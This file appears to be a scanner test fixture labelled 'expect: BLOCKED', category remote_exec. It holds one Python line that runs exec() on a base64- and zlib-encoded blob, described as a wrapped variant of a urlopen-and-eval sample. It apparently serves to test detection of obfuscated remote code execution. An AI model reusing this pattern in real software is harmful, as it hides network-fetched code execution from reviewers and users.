# expect: BLOCKED category: remote_exec variant-of: risky/remote_exec/urlopen_eval.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJwtzLEOwiAQgOGdp7jUBZajtU4mjm5OJj4AypmS0EKPo/r4YnT6k3/4dnDeXKxOqMBratmIwcHtegEmqbwUVE9OM1SOMdyRaa1UBMKcE8v3pkyLUkylRoETUOP0f+tuEslHa/f9iD0Ow4gHS+/MnWmQ89qgp0fypI1RmcMi+ueYD6wpMy4=')))
